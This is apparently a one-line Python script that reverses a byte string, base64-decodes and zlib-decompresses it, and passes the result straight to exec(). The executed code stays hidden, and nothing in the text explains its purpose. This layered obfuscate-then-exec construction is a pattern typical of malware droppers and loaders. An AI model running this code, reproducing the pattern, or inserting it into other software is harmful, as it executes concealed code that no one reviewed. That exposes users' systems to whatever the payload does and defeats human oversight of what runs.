_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=AXEFIDACQ+1Q5MKRhKUvWNNze9MzANszWdM3ct0wmSKogsVtAdUK3iLPBV1NnkLs46KW/iym/CyRpyLI3CzLzJe'))
